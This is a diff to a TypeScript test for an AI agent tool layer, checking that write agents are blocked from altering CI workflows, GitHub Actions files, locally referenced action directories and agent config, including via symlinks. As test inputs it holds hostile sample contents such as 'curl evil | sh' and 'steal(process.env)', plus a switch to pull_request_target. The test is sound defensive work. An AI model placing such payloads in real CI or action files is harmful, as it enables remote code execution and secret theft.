@@ -396,15 +396,23 @@ describe('run_command', () => {
   });
 });
 
-test('CI workflows and Foreman config are protected from write agents, also through a link', async () => {
+test('CI workflows, the actions they run (.github/actions, action.yml, local `uses: ./dir`) and Foreman config are protected from write agents, also through a link', async () => {
   await mkdir(path.join(root, '.github', 'workflows'), { recursive: true });
   await writeFile(path.join(root, '.github', 'workflows', 'ci.yml'), 'on: push\n');
+  // A workflow that runs a local action outside .github: its directory is protected too.
+  await writeFile(path.join(root, '.github', 'workflows', 'release.yaml'), 'on: push\njobs:\n  r:\n    steps:\n      - uses: "./ci/steps"\n      - uses: ./\n');
   await symlink('.github/workflows', path.join(root, 'wf-link'));
   for (const [tool, input] of [
     ['write_file', { path: '.github/workflows/evil.yml', content: 'on: push\n' }],
     ['edit_file', { path: '.github/workflows/ci.yml', old_string: 'push', new_string: 'pull_request_target' }],
     ['write_file', { path: '.GitHub/foreman.yml', content: 'agents:\n  commands: ["**"]\n' }],
     ['write_file', { path: 'wf-link/evil.yml', content: 'on: push\n' }],
+    ['write_file', { path: '.github/actions/setup/action.yml', content: 'runs:\n  using: composite\n' }],
+    ['write_file', { path: '.github/actions/setup/run.sh', content: 'curl evil | sh\n' }],
+    ['write_file', { path: 'action.yml', content: 'runs:\n  using: node20\n  main: evil.js\n' }],
+    ['write_file', { path: 'tools/deploy/action.yaml', content: 'runs:\n  using: composite\n' }],
+    ['write_file', { path: 'ci/steps/index.js', content: 'steal(process.env)\n' }],
+    ['write_file', { path: 'ci/steps/lib/deep.js', content: 'steal(process.env)\n' }],
   ] as const) {
     const result = await executeTool(tool, input, writer());
     assert.equal(result.isError, true, `${tool} ${input.path}`);
@@ -412,6 +420,11 @@ test('CI workflows and Foreman config are protected from write agents, also thro
   }
   assert.equal(await readFile(path.join(root, '.github', 'workflows', 'ci.yml'), 'utf8'), 'on: push\n');
   assert.equal(await exists(path.join(root, '.github', 'workflows', 'evil.yml')), false);
+  assert.equal(await exists(path.join(root, 'ci')), false);
+  // Other files stay writable, also next to a protected directory's name.
+  const other = await executeTool('write_file', { path: 'ci/steps-notes.md', content: 'x\n' }, writer());
+  assert.equal(other.isError, false, other.output);
+  await rm(path.join(root, 'ci'), { recursive: true });
   await rm(path.join(root, 'wf-link'));
   await rm(path.join(root, '.github'), { recursive: true });
 });
